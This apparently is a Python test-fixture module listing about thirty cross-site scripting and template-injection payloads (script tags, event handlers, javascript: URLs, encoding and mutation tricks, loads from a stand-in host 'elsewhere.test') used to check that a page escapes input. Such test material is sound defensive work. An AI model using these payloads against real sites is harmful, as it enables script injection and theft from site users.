"""Words that would act if a page took them for more than words.

Each sets ``window.struck`` where it runs, asks for ``https://elsewhere.test`` where it loads, or
becomes an element, an attribute or a link that no page of ours has.
"""

from __future__ import annotations

STRIKE = "window.struck=1"
ELSEWHERE = "elsewhere.test"
PAYLOADS = (
    f"<script>{STRIKE}</script>",
    f"</title></textarea></style></script><script>{STRIKE}</script>",
    f"<ScRiPt >{STRIKE}</sCrIpT >",
    f"<script src=//{ELSEWHERE}/a.js></script>",
    f"<img src=x onerror={STRIKE}>",
    f'"><img src=x onerror="{STRIKE}">',
    f"'><svg/onload={STRIKE}>",
    f'" autofocus onfocus="{STRIKE}" x="',
    f"' onmouseover='{STRIKE}' style='position:fixed;inset:0' '",
    f"` onpointerenter={STRIKE} `",
    f"javascript:{STRIKE}//",
    f"jav\tascript:{STRIKE}",
    f"&#106;avascript:{STRIKE}",
    f"data:text/html,<script>{STRIKE}</script>",
    f"<iframe srcdoc='<script>parent.{STRIKE}</script>'>",
    f"<svg><animate onbegin={STRIKE} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img src onerror={STRIKE}>",
    f"<noscript><p title='</noscript><img src=x onerror={STRIKE}>'>",
    f"<details open ontoggle={STRIKE}>x",
    f"<form><button formaction=javascript:{STRIKE}>x",
    f"<object data=//{ELSEWHERE}/x></object><embed src=//{ELSEWHERE}/x>",
    f"<base href=//{ELSEWHERE}/><link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<style>@import'//{ELSEWHERE}/x.css';*{{background:url(//{ELSEWHERE}/x)}}</style>",
    f"<img src=//{ELSEWHERE}/pixel.png srcset='//{ELSEWHERE}/2.png 2x'>",
    f"{{{{ 7*7 }}}}{{% for x in () %}}${{{STRIKE}}}<%= 7*7 %>",
    f"\u003cscript\u003e{STRIKE}\u003c/script\u003e",
    f"\uff1cscript\uff1e{STRIKE}\uff1c/script\uff1e",
    f"<scr\u200bipt>{STRIKE}</script>",
    f"--><!--><script>{STRIKE}</script>",
    f"]]><script>{STRIKE}</script><![CDATA[",
)
